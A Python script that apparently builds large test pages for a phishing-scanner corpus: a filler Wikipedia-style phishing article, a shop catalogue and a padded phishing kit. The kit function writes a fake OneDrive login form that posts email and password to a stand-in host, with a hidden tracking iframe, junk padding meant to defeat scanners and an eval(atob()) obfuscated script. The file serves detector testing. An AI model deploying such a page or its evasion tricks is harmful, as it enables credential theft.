#!/usr/bin/env python3
"""Generates the corpus's three large pages (100-300 KB) deterministically.

Real pages are often big: long encyclopedia articles, shop catalogues, and phishing kits padded
with junk so that scanners give up early. Hand-writing 200 KB is pointless, so this script builds
the bulk from a fixed vocabulary with a seeded random generator. Running it again rewrites the
same bytes (no network, no real data):

    python3 tests/corpus/make_big.py
"""

import base64
import os
import random

HERE = os.path.dirname(os.path.abspath(__file__))
PAGES = os.path.join(HERE, "pages")

WORDS = (
    "attack attacker bank browser campaign certificate click credential customer domain email "
    "filter fraud identity impersonation internet kit lure message network page password "
    "payment report researcher security sender site social spoofed target trust user victim "
    "website years organisation government awareness training report study technique voice "
    "text spear whaling clone redirect link address login form brand support service"
).split()


def sentence(rng, n_min=8, n_max=22):
    words = [rng.choice(WORDS) for _ in range(rng.randint(n_min, n_max))]
    words[0] = words[0].capitalize()
    return " ".join(words) + "."


def paragraph(rng, sentences=5):
    return " ".join(sentence(rng) for _ in range(sentences))


def wikipedia_article():
    rng = random.Random(20261125)
    sections = ["History", "Early phishing on AOL", "Types", "Email phishing", "Spear phishing",
                "Whaling", "Voice phishing", "SMS phishing", "Page hijacking", "Link manipulation",
                "Filter evasion", "Website forgery", "Anti-phishing", "User training",
                "Technical approaches", "Legal responses", "See also", "References"]
    out = ["""<!DOCTYPE html>
<html class="client-nojs" lang="en" dir="ltr">
<head>
<meta charset="UTF-8">
<title>Phishing - Wikipedia</title>
<meta property="og:site_name" content="Wikipedia">
<link rel="stylesheet" href="/w/load.php?lang=en&amp;modules=site.styles&amp;only=styles&amp;skin=vector-2022">
<link rel="icon" href="/static/favicon/wikipedia.ico">
</head>
<body class="skin-vector mediawiki">
<div id="content" class="mw-body">
<h1 id="firstHeading">Phishing</h1>
<p><b>Phishing</b> is a form of social engineering and a scam where attackers deceive people into revealing sensitive
information. Attackers often imitate well-known brands such as banks, PayPal or Microsoft, and register lookalike
domain names. Messages typically urge the recipient to "verify your account".</p>
"""]
    ref = 1
    for s in sections:
        out.append(f'<h2><span class="mw-headline" id="{s.replace(" ", "_")}">{s}</span></h2>\n')
        for _ in range(rng.randint(9, 14)):
            out.append(f"<p>{paragraph(rng, rng.randint(4, 7))}<sup class=\"reference\"><a href=\"#cite_note-{ref}\">[{ref}]</a></sup></p>\n")
            ref += 1
    out.append('<ol class="references">\n')
    for i in range(1, ref):
        out.append(f'<li id="cite_note-{i}"><cite>{sentence(rng, 4, 9)}</cite> Retrieved 2026-0{rng.randint(1, 9)}-1{rng.randint(0, 9)}.</li>\n')
    out.append("</ol>\n</div>\n</body>\n</html>\n")
    return "".join(out)


def catalog_page():
    rng = random.Random(77)
    adjectives = "Classic Rustic Modern Nordic Copper Walnut Stoneware Enamel Cast-iron Bamboo Linen Ceramic".split()
    nouns = "Skillet Saucepan Dutch-oven Mixing-bowl Cutting-board Chef-knife Kettle Colander Ladle Whisk Mug Teapot".split()
    out = ["""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Kitchen - Harbor Home Goods</title>
<link rel="stylesheet" href="/static/css/catalog.css">
<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Lora&amp;display=swap">
</head>
<body>
<header><a href="/">Harbor Home Goods</a> <a href="/account">My account</a> <a href="/cart">Cart</a></header>
<main>
<h1>Kitchen</h1>
<div class="grid">
"""]
    for i in range(1400):
        name = f"{rng.choice(adjectives)} {rng.choice(nouns).replace('-', ' ')}"
        price = rng.randint(8, 240) + rng.choice([0.0, 0.5, 0.95, 0.99])
        sku = f"HH-{10000 + i}"
        out.append(f'<div class="card" data-sku="{sku}"><a href="/p/{sku.lower()}"><img src="/img/p/{sku.lower()}-320.webp" alt="{name}" loading="lazy"></a>'
                   f'<h3>{name}</h3><p class="price">${price:.2f}</p></div>\n')
    out.append("</div>\n</main>\n<footer>Free shipping over $75. Returns within 30 days.</footer>\n</body>\n</html>\n")
    return "".join(out)


def padded_kit():
    rng = random.Random(4242)
    junk = []
    for _ in range(1200):
        junk.append("".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randint(60, 110))))
    padding = "\n".join(junk)
    # An inert payload: base64 of a harmless script that only sets a form action.
    payload = "document.forms[0].action='https://od-relay-gate.top/next.php';/*" + "x" * 420 + "*/"
    b64 = base64.b64encode(payload.encode()).decode()
    return f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<!-- 16shop v4 | onedrive page | license: 2f8c1a -->
<title>OneDrive - Sign in to view shared files</title>
<style>body{{font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1}}.c{{width:420px;margin:60px auto;background:#fff;padding:32px}}input{{width:100%;padding:8px;margin:6px 0}}</style>
</head>
<body>
<div class="c">
  <h2>OneDrive</h2>
  <p>You have received 2 shared files. Sign in with your Microsoft account to view them.</p>
  <form method="post" action="https://od-relay-gate.top/next.php">
    <input type="email" name="email" placeholder="Email">
    <input type="password" name="password" placeholder="Password">
    <button type="submit">View files</button>
  </form>
</div>
<iframe src="https://od-relay-gate.top/track.php" width="0" height="0" frameborder="0"></iframe>
<div style="display:none">
{padding}
</div>
<script>
var _p = "{b64}";
eval(atob(_p));
</script>
</body>
</html>
"""


def main():
    os.makedirs(PAGES, exist_ok=True)
    for name, text in [("wikipedia-phishing-article.html", wikipedia_article()),
                       ("harbor-home-catalog.html", catalog_page()),
                       ("padded-onedrive-kit.html", padded_kit())]:
        with open(os.path.join(PAGES, name), "w", encoding="utf-8", newline="\n") as f:
            f.write(text)
        print(f"{name}: {len(text.encode())} bytes")


if __name__ == "__main__":
    main()
